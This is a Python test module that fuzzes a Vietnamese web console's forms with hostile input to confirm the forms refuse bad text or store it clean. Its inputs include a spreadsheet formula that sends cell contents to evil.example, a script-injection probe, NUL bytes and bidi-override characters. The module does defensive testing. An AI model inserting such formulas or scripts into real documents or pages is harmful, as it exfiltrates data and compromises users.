"""Hostile text in the web console's forms, through the ASGI app (httpx, signed in as the
whole-tree admin, with a valid CSRF token): the campaign creation form, supervisor assignment,
invites per unit, the campaign status form, the upload form's campaign field and the two
sign-in forms (one-time link, Mini App).

Every answer is a page or a redirect (never a 500 or a traceback); a refused form writes nothing
(campaigns, roles and invites are counted); what is stored has no control or format character
and fits its field; text that looks like a formula is stored as plain text, unchanged. Runs on
both engines (a NUL used to reach PostgreSQL in look-ups).

The example count follows tests/test_hostile_input.py: CADREBOT_HOSTILE_EXAMPLES (default 40) sets
it; this suite runs a quarter of it per form, so the default stays within seconds.
"""

from __future__ import annotations

import itertools
import os
import unicodedata
from collections.abc import AsyncIterator
from dataclasses import dataclass

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select

from bot.web.campaign_form import TEXT_FIELDS, blank_values
from storage.db import Database
from storage.models import Campaign, Invite, Role
from storage.text_clean import BadText, clean
from tests.web_fixtures import WebWorld, build_web_world, client_of, sign_in

EXAMPLES = max(5, int(os.environ.get("CADREBOT_HOSTILE_EXAMPLES", "40")) // 4)
HOSTILE = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    derandomize=os.environ.get("CADREBOT_HOSTILE_RANDOM") is None,
)
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'

hostile_text = st.one_of(
    st.text(max_size=40),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs", "Mn"]), max_size=12),
    st.sampled_from(
        [
            FORMULA,
            "+84912345678",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\x00",
            "Đợt\x00học",
            "\u202eNghị quyết\u202c",
            "Nghị\u200b quyết\ufeff",
            "$x^2$ 100%",
            "<script>alert(1)</script>",
            "0912345678\u200b",
        ]
    ),
    st.builds(lambda n: "x" * n, st.sampled_from([0, 64, 65, 200, 201, 255, 256, 5000])),
)
hostile_date = st.one_of(
    st.sampled_from(
        ["2017-03-31", "2017-02-30", "31/3/2017", "", "2017-3-31", "-1", "9999999-01-01"]
    ),
    st.sampled_from(["2017-03-31\x00", "\u200b2017-03-31", "２０１７-03-31", "1" * 10_000]),
    st.text(max_size=12),
)
hostile_number = st.one_of(
    st.sampled_from(["", "0", "-1", "1e9", "²", "١٢", "9" * 40, "1\x00", " 1 ", "0x10"]),
    st.text(max_size=8),
)


@dataclass
class Signed:
    web: WebWorld
    client: httpx.AsyncClient
    csrf: str


@pytest.fixture
async def signed(db: Database) -> AsyncIterator[Signed]:
    web = await build_web_world(db)
    async for client in client_of(web):
        yield Signed(web, client, await sign_in(client, web, web.admin_id))


async def _count(db: Database, model: type) -> int:
    async with db.read() as session:
        return int((await session.execute(select(func.count()).select_from(model))).scalar_one())


def _is_clean(text: str) -> bool:
    return not any(unicodedata.category(c) in {"Cc", "Cf"} for c in text)


def _a_page(response: httpx.Response) -> None:
    """A page or a redirect: never a server error, never a traceback."""
    assert response.status_code < 500, response.text[:300]
    assert "Traceback" not in response.text
    if response.status_code not in (200, 303) or "html" in response.headers.get("content-type", ""):
        assert "<html" in response.text.lower()


def _expected(raw: str, limit: int) -> str | None:
    """What the form stores for `raw`, or None if it must be refused."""
    try:
        text = clean(raw).strip()
    except BadText:
        return None
    return text if 0 < len(text) <= limit else None


_numbers = itertools.count(1)


@HOSTILE
@given(name=hostile_text, reference=hostile_text, resolution=hostile_text, day=hostile_date)
async def test_campaign_form_refuses_or_stores_clean_plain_text(
    signed: Signed, name: str, reference: str, resolution: str, day: str
) -> None:
    db = signed.web.db
    unique = f"{reference}/{next(_numbers)}"
    data = {k: "2017-03-31" for k in blank_values() if k.startswith("due__")}
    data.update(csrf=signed.csrf, name=name, reference=unique, resolution=resolution)
    data["start_date"] = day
    before = await _count(db, Campaign)
    response = await signed.client.post("/desk/campaigns/new", data=data)
    _a_page(response)
    wanted = {
        field: _expected(value, TEXT_FIELDS[field])
        for field, value in (("name", name), ("reference", unique), ("resolution", resolution))
    }
    if response.status_code == 303:
        assert await _count(db, Campaign) == before + 1
        async with db.read() as session:
            stored = (
                await session.execute(
                    select(Campaign).where(Campaign.reference == wanted["reference"])
                )  # type: ignore[arg-type]
            ).scalar_one()
        assert stored.name == wanted["name"] and stored.resolution == wanted["resolution"]
    else:
        assert response.status_code == 422
        assert await _count(db, Campaign) == before
        if None in (wanted["name"], wanted["reference"], wanted["resolution"]):
            assert "ký tự" in response.text or "Chưa nhập" in response.text
    async with db.read() as session:
        for campaign in (await session.execute(select(Campaign))).scalars():
            assert _is_clean(campaign.name) and _is_clean(campaign.reference)
            assert _is_clean(campaign.resolution) and len(campaign.name) <= 200


@HOSTILE
@given(person=hostile_text, remove=st.one_of(st.just(""), hostile_number, hostile_text))
async def test_assigning_supervisors_with_hostile_text_is_a_page(
    signed: Signed, person: str, remove: str
) -> None:
    db = signed.web.db
    unit = signed.web.world.other_unit_id
    before = await _count(db, Role)
    data = {"csrf": signed.csrf, "person": person, "remove": remove}
    response = await signed.client.post(f"/unit/{unit}/assign", data=data)
    _a_page(response)
    assert response.status_code == 303
    location = response.headers["location"]
    shown = await signed.client.get(location)
    _a_page(shown)
    assert shown.status_code == 200
    if "assign=bad_text" in location or "assign=no_person" in location:
        assert await _count(db, Role) == before
        assert "chưa thay đổi gì" in shown.text


@HOSTILE
@given(level=st.one_of(st.just("co_so"), hostile_text), under=hostile_text)
async def test_invites_with_hostile_level_or_unit_write_nothing_unless_a_sheet_is_made(
    signed: Signed, level: str, under: str
) -> None:
    db = signed.web.db
    before = await _count(db, Invite)
    data = {"csrf": signed.csrf, "role": "reporter", "level": level, "under": under}
    response = await signed.client.post("/desk/invites", data=data)
    assert response.status_code < 500 and "Traceback" not in response.text
    if response.status_code == 200 and response.content[:2] == b"PK":
        return  # a sheet: the cleaned level and unit named units to invite
    _a_page(response)
    assert response.status_code == 422
    assert await _count(db, Invite) == before


@HOSTILE
@given(campaign=hostile_number, status=st.one_of(st.sampled_from(["open", "closed"]), hostile_text))
async def test_malformed_numbers_in_paths_and_fields_are_pages(
    signed: Signed, campaign: str, status: str
) -> None:
    from urllib.parse import quote

    path = quote(campaign, safe="") or "x"
    response = await signed.client.post(
        f"/desk/campaigns/{path}/status", data={"csrf": signed.csrf, "status": status}
    )
    _a_page(response)
    upload = await signed.client.post(
        "/desk/upload/reports",
        data={"csrf": signed.csrf, "campaign": campaign},
        files={"file": ("r.csv", b"unit_code\n")},
    )
    _a_page(upload)
    unit = await signed.client.post(f"/unit/{path}/assign", data={"csrf": signed.csrf})
    _a_page(unit)


async def test_the_forms_say_what_is_wrong_in_vietnamese_and_keep_formulas_as_text(
    signed: Signed,
) -> None:
    db, client, csrf = signed.web.db, signed.client, signed.csrf
    base = {k: "2017-03-31" for k in blank_values() if k.startswith("due__")}
    base.update(csrf=csrf, resolution="Nghị quyết Trung ương 4", start_date="2017-01-05")
    before = await _count(db, Campaign)

    nul = await client.post(
        "/desk/campaigns/new", data={**base, "name": "Đợt\x00", "reference": "A"}
    )
    assert nul.status_code == 422
    assert "Mục Tên đợt có ký tự không hợp lệ" in nul.text and "chưa có gì được ghi" in nul.text
    assert "\x00" not in nul.text
    long = await client.post(
        "/desk/campaigns/new", data={**base, "name": "x" * 201, "reference": "B"}
    )
    assert long.status_code == 422 and "dài quá 200 ký tự" in long.text
    assert await _count(db, Campaign) == before

    name = "\u200b" + FORMULA + "\u202e"
    made = await client.post("/desk/campaigns/new", data={**base, "name": name, "reference": "@C"})
    assert made.status_code == 303
    async with db.read() as session:
        stored = (
            await session.execute(select(Campaign).where(Campaign.reference == "@C"))  # type: ignore[arg-type]
        ).scalar_one()
    assert stored.name == FORMULA  # format characters gone, the text itself unchanged

    unit = signed.web.world.other_unit_id
    roles = await _count(db, Role)
    assign = await client.post(f"/unit/{unit}/assign", data={"csrf": csrf, "person": "09\x0012"})
    assert assign.headers["location"].endswith("assign=bad_text#assign")
    shown = await client.get(assign.headers["location"])
    assert "có ký tự không hợp lệ hoặc quá dài" in shown.text
    assert await _count(db, Role) == roles

    invites = await _count(db, Invite)
    form = {"csrf": csrf, "role": "reporter", "level": "co_so", "under": "CS\x001"}
    refused = await client.post("/desk/invites", data=form)
    assert refused.status_code == 422 and "có ký tự không hợp lệ" in refused.text
    assert await _count(db, Invite) == invites


async def test_superscript_and_arabic_digits_are_never_read_as_numbers(signed: Signed) -> None:
    client, csrf = signed.client, signed.csrf
    unit = signed.web.world.other_unit_id
    for raw in ("²", "١٢", "9" * 20):
        status = await client.post(
            f"/desk/campaigns/{raw}/status", data={"csrf": csrf, "status": "closed"}
        )
        _a_page(status)
        assert status.status_code == 404
        assign = await client.post(f"/unit/{unit}/assign", data={"csrf": csrf, "remove": raw})
        assert assign.headers["location"].endswith("assign=no_person#assign")


def test_campaign_yaml_text_goes_through_the_same_cleaner() -> None:
    from storage.campaigns import DefinitionError, parse_definition, template_text

    text = template_text()
    name = parse_definition(text).campaign.name
    spoiled = text.replace(f'name: "{name}"', f'name: "\\u200b{name}\\u202e"', 1)
    assert spoiled != text
    assert parse_definition(spoiled).campaign.name == name
    with pytest.raises(DefinitionError):
        parse_definition(text.replace(f'name: "{name}"', f'name: "{name}\\0"', 1))


@HOSTILE
@given(token=hostile_text, init_data=hostile_text)
async def test_sign_in_forms_with_hostile_tokens_are_pages(
    signed: Signed, token: str, init_data: str
) -> None:
    from storage.models import WebSession

    db = signed.web.db
    before = await _count(db, WebSession)
    async for client in client_of(signed.web):  # a browser without a session
        _a_page(await client.post("/w", data={"token": token}))
        _a_page(await client.post("/tg", data={"init_data": init_data}))
    assert await _count(db, WebSession) == before
